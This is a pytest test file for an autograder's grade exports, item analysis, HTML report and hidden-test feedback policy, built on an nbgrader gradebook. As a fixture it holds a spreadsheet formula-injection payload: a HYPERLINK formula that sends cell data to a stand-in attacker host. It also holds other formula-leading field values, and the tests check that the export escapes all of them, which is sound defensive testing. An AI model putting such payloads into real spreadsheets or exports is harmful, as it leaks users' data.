"""Exports, item analysis, CSV safety and the feedback policy, on a real nbgrader gradebook.

The gradebook is built with nbgrader's own ``Gradebook`` API (no kernels run):
two assignments, students with every kind of outcome — graded, failed, flagged,
not submitted — and one whose id is a spreadsheet formula.
"""
from __future__ import annotations

import csv
import datetime
import io
import json

import pytest

from autograder.reporting import csvsafe
from autograder.reporting import export
from autograder.reporting import items
from autograder.reporting import policy
from autograder.reporting import report
from autograder.catalogue import signatures
from autograder.quality import failure_signatures

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CELLS = {"01_arrays": {"dot": [("test_dot_values", 3.0), ("test_dot_errors", 2.0)],
                       "matmul": [("test_matmul_values", 3.0)]},
         "02_forward": {"sigmoid": [("test_sigmoid_values", 4.0)]}}
SCORES = {   # student -> assignment -> {cell: score}
    "alice": {"01_arrays": {"test_dot_values": 3, "test_dot_errors": 2, "test_matmul_values": 3},
              "02_forward": {"test_sigmoid_values": 4}},
    "bob": {"01_arrays": {"test_dot_values": 3, "test_dot_errors": 0, "test_matmul_values": 0}},
    "carol": {"01_arrays": {"test_dot_values": 0, "test_dot_errors": 0, "test_matmul_values": 0},
              "02_forward": {"test_sigmoid_values": 4}},
    EVIL: {},
}


@pytest.fixture()
def course(tmp_path, monkeypatch):
    from nbgrader.api import Gradebook

    from autograder.stock_nbgrader import nbgrader_env

    monkeypatch.setenv("PATH", nbgrader_env()["PATH"])     # nbgrader runs alembic

    (tmp_path / "nbgrader_config.py").write_text("c = get_config()\n")
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gb:
        for name, exercises in CELLS.items():
            gb.add_assignment(name, duedate=datetime.datetime(2026, 1, 10, 12, 0))
            gb.add_notebook(name, name)
            for exercise, cells in exercises.items():
                gb.add_solution_cell(exercise, name, name)
                for cell, points in cells:
                    gb.add_grade_cell(cell, name, name, max_score=points, cell_type="code")
        gb.add_student("alice", first_name="Alice", last_name="Kim", email="alice@uni.example")
        gb.add_student("bob", first_name="Bob", last_name="Lee", email="bob@uni.example")
        gb.add_student("carol", first_name="Carol", last_name="Park", email="carol@uni.example")
        gb.add_student(EVIL, first_name="+SUM(1,2)", last_name="@cmd", email="-x@uni.example")
        for student, subs in SCORES.items():
            for name, cells in subs.items():
                gb.add_submission(name, student)
                for cell, score in cells.items():
                    grade = gb.find_grade(cell, name, name, student)
                    grade.auto_score = score
        gb.db.commit()
    results = tmp_path / "reports" / "grade-results.json"
    results.parent.mkdir()
    results.write_text(json.dumps({"version": 1, "submissions": [
        {"student": "carol", "assignment": "01_arrays", "status": "failed",
         "reason": "kernel died", "flags": []},
        {"student": "bob", "assignment": "01_arrays", "status": "graded", "reason": "",
         "flags": ["edited locked cell test_dot_values"]},
    ]}), encoding="utf-8")
    return tmp_path


def _rows(path, encoding="utf-8"):
    return list(csv.reader(io.StringIO(path.read_text(encoding=encoding))))


def test_canvas_layout(course):
    out = export.write_exports(course, formats=["canvas"])["written"]["canvas"]
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                      # UTF-8 with a BOM
    assert b"\r\n" in raw and raw.count(b"\r\n") == 6           # header + points + 4 students
    rows = _rows(out, "utf-8-sig")
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                       "01_arrays", "02_forward"]
    assert rows[1] == ["Points Possible", "", "", "", "", "8.0", "4.0"]
    by_id = {r[2]: r for r in rows[2:]}
    assert by_id["alice"][0] == "Kim, Alice" and by_id["alice"][5:] == ["8.0", "4.0"]
    assert by_id["bob"][5:] == ["3.0", ""]                      # not submitted: empty
    assert by_id["carol"][5:] == ["", "4.0"]                    # failed: empty, never a 0
    evil = [r for r in rows[2:] if "HYPERLINK" in r[2]][0]
    assert evil[2] == "'" + EVIL and evil[3] == "'" + EVIL
    assert evil[0] == "'@cmd, +SUM(1,2)"


def test_moodle_layout(course):
    out = export.write_exports(course, formats=["moodle"])["written"]["moodle"]
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = _rows(out)
    assert rows[0] == ["Email address", "ID number", "First name", "Last name",
                       "01_arrays", "02_forward"]
    by_id = {r[1]: r for r in rows[1:]}
    assert by_id["alice"] == ["alice@uni.example", "alice", "Alice", "Kim", "8.0", "4.0"]
    assert by_id["bob"][4:] == ["3.0", ""] and by_id["carol"][4:] == ["", "4.0"]
    assert by_id["'" + EVIL][0] == "'-x@uni.example" and by_id["'" + EVIL][2] == "'+SUM(1,2)"


def test_long_csv_and_json(course):
    written = export.write_exports(course, formats=["long", "json"])["written"]
    rows = _rows(written["long"])
    assert rows[0] == export.LONG_KEYS
    data = json.loads(written["json"].read_text(encoding="utf-8"))
    assert data["columns"] == export.LONG_KEYS and len(data["rows"]) == len(rows) - 1
    assert len(data["rows"]) == 4 * 4                           # 4 students x 4 test cells
    by = {(r["student"], r["test_cell"]): r for r in data["rows"]}
    assert by[("alice", "test_dot_values")] == {
        "student": "alice", "assignment": "01_arrays", "exercise": "dot",
        "test_cell": "test_dot_values", "score": 3.0, "max_score": 3.0, "status": "graded",
        "flags": []}
    assert by[("bob", "test_sigmoid_values")]["status"] == "not submitted"
    assert by[("bob", "test_sigmoid_values")]["score"] is None
    assert by[("bob", "test_sigmoid_values")]["max_score"] == 4.0
    assert by[("bob", "test_dot_values")]["flags"] == ["edited locked cell test_dot_values"]
    carol = by[("carol", "test_dot_values")]
    assert carol["status"] == "failed" and carol["score"] == 0.0 and "kernel died" in carol["flags"]
    csv_by = {(r[0], r[3]): r for r in rows[1:]}
    assert csv_by[("bob", "test_sigmoid_values")][4] == ""      # missing: empty score
    assert csv_by[("'" + EVIL, "test_dot_values")][6] == "not submitted"


def test_lms_files_leave_out_assignments_not_yet_released(course):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        gb.add_assignment("03_loss")          # registered ahead, as init does; no submission
    result = export.write_exports(course, formats=["canvas", "moodle", "long"])
    assert result["unreleased"] == ["03_loss"]
    for kind, encoding in (("canvas", "utf-8-sig"), ("moodle", "utf-8")):
        assert "03_loss" not in _rows(result["written"][kind], encoding)[0], kind
    assert "03_loss" not in result["written"]["long"].read_text(encoding="utf-8")
    (course / "release" / "03_loss").mkdir(parents=True)      # handed out: now a column
    written = export.write_exports(course, formats=["canvas"])["written"]
    assert _rows(written["canvas"], "utf-8-sig")[0][-1] == "03_loss"


def test_grades_csv_escapes_formulas(course, tmp_path):
    out = report.write_report(course, tmp_path / "out")
    text = out["csv"].read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    ids = {r["student_id"] for r in rows}
    assert "'" + EVIL in ids and EVIL not in ids
    for row in rows:
        for value in row.values():
            assert not value.startswith(csvsafe.FORMULA_START), value
    assert "&#34;" not in text                                  # quoted, not HTML-escaped


def test_cli_export_and_exit_codes(course, tmp_path, capsys):
    from autograder.__main__ import main

    assert main(["export", "--course-dir", str(course), "--out", str(tmp_path / "x")]) == 0
    out = capsys.readouterr().out
    assert "1 failed submission(s) left empty" in out
    assert {p.name for p in (tmp_path / "x").iterdir()} == {
        "canvas.csv", "moodle.csv", "grades-long.csv", "grades-long.json"}
    missing = tmp_path / "nowhere"
    # a course directory that is not there is a usage error (2), and is not created
    assert main(["export", "--course-dir", str(missing)]) == 2
    assert main(["report", "--course-dir", str(missing)]) == 2
    assert not missing.exists()


def test_csv_cell():
    assert csvsafe.cell("=1+1") == "'=1+1" and csvsafe.cell("\tx") == "'\tx"
    assert csvsafe.cell("\rx") == "'\rx" and csvsafe.cell("alice") == "alice"
    assert csvsafe.cell(-3.0) == -3.0 and csvsafe.cell(None) == ""


# ------------------------------------------------------------------ item analysis

def test_normalise_groups_the_same_mistake():
    a = items.normalise("CheckFailed: the rows of softmax(x) sum to [1.73 2.01], not 1")
    b = items.normalise("CheckFailed: the rows of softmax(x)  sum to [0.5 -3e-4],\nnot 1")
    assert a == b == "CheckFailed: the rows of softmax(x) sum to […], not 1"
    # Small integers (shapes, axes) name the case and stay.
    assert items.normalise("x of shape (3, 1)") == "x of shape (3, 1)"


def test_discrimination_index():
    passes = [False, False, False, True, True, True, True, False, True, True]
    rest = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]
    # groups of round(0.27 * 10) = 3: bottom passes 0/3, top 2/3
    assert items.discrimination(passes, rest) == pytest.approx(2 / 3)
    assert items.discrimination([True] * 9, list(range(9))) is None        # too few
    assert items.discrimination([True] * 5 + [False] * 5, list(range(10))) == -1.0


def test_item_analysis_on_the_gradebook(course):
    found = items.analyse(report.collect(course), course, signatures={})
    by = {(i.assignment, i.grade_id): i for i in found}
    dot = by[("01_arrays", "test_dot_errors")]
    assert (dot.graded, dot.passed) == (2, 1)        # carol failed: left out
    assert [(f.message, f.count) for f in dot.failures] == [
        ("(no error message: partial or manual score)", 1)]  # no autograded notebook here
    matmul = by[("01_arrays", "test_matmul_values")]
    assert matmul.graded == 2 and matmul.discrimination is None   # too few for an index


def test_zeroed_submissions_count_in_no_pass_rate(course):
    """A submission whose scores grading set to 0 (forged verdicts) says nothing about the
    tests: it is left out of pass rates and D, as a failed one is."""
    results = course / "reports" / "grade-results.json"
    data = json.loads(results.read_text(encoding="utf-8"))
    data["submissions"].append({"student": "alice", "assignment": "02_forward",
                                "status": "graded", "reason": "",
                                "flags": ["forged verdicts: 5 of 5 decoy tests passed"]})
    results.write_text(json.dumps(data), encoding="utf-8")
    graded = report.collect(course)
    assert graded.submissions[("alice", "02_forward")].zeroed
    sigmoid = {i.grade_id: i for i in items.analyse(graded, course, signatures={})}[
        "test_sigmoid_values"]
    assert (sigmoid.graded, sigmoid.passed) == (1, 1)            # carol's only
    rate = next(r for r in report.pass_rates(graded) if r["exercise"] == "sigmoid")
    assert (rate["graded"], rate["passed"]) == (1, 1)


def test_the_report_page_has_a_table_of_contents(course, tmp_path):
    import re

    html = report.write_report(course, tmp_path / "out")["html"].read_text(encoding="utf-8")
    nav = html[html.index('<nav id="contents">'):html.index("</nav>")]
    targets = re.findall(r'href="#([^"]+)"', nav)
    assert {"summary", "exercises", "item-analysis", "problems", "scores", "legend",
            "items-01_arrays-dot", "items-02_forward-sigmoid"} <= set(targets)
    for target in targets:
        assert f'id="{target}"' in html, target
    assert "position: sticky" in html                   # in sight wherever one has scrolled


def test_signatures_file_is_in_step_with_the_catalogue():
    names = ["01_arrays", "02_forward", "03_loss", "04_gradients", "05_backprop", "06_training"]
    assert signatures.stale(names) == [], \
        "autograder/catalogue/signatures.json is out of date: run check-tests for these"
    committed = items.load_signatures()
    assert failure_signatures.compute("01_arrays") == committed["01_arrays"]
    from autograder import catalogue
    for name in names:
        wrong = {f"{e.exercise}/wrong-{e.slug}" for e in catalogue.load(name)
                 if e.kind == "wrong"}
        named = {label.split(":")[0] for cells in committed[name].values()
                 for labels in cells.values() for label in labels}
        assert named <= wrong and len(named) >= 0.9 * len(wrong), name


def test_stale_signatures_are_noticed(tmp_path):
    path = tmp_path / "signatures.json"
    path.write_text(json.dumps({"01_arrays": {"inputs_sha256": "0" * 64, "cells": {}}}))
    assert signatures.stale(["01_arrays", "02_forward"], path) == ["01_arrays", "02_forward"]


# ------------------------------------------------------------------ policy

NOW = datetime.datetime(2026, 6, 1, tzinfo=datetime.timezone.utc)


def _policy(rules, default="never"):
    return policy.FeedbackPolicy(hidden_tests=rules, default=default)


def test_policy_rules():
    p = _policy({"a": "2026-05-31T23:59", "b": "2026-06-02", "c": "always", "d": "due",
                 "e": "2026-06-01T08:00+09:00"})
    assert policy.decide(p, "a", now=NOW).show is True
    assert policy.decide(p, "b", now=NOW).show is False
    assert "hidden until a date, 2026-06-02 00:00 UTC" in policy.decide(p, "b", now=NOW).text
    assert policy.decide(p, "c", now=NOW).show is True
    assert policy.decide(p, "d", None, now=NOW).show is False
    assert policy.decide(p, "d", datetime.datetime(2026, 5, 1), now=NOW).show is True
    assert policy.decide(p, "e", now=NOW).show is True          # 23:00 UTC the day before
    assert policy.decide(p, "other", now=NOW).text == \
        "hidden tests not shown (policy: hidden for good)"
    with pytest.raises(ValueError, match="not 'never'"):
        policy.decide(_policy({"x": "soon"}), "x", now=NOW)


def test_policy_read_from_nbgrader_config(tmp_path):
    (tmp_path / "nbgrader_config.py").write_text(
        "c = get_config()\nc.FeedbackPolicy.hidden_tests = {'01_arrays': 'due'}\n"
        "c.FeedbackPolicy.default = 'always'\n")
    p = policy.load(tmp_path)
    assert p.hidden_tests == {"01_arrays": "due"} and p.default == "always"
    assert policy.load(tmp_path / "none").default == "never"
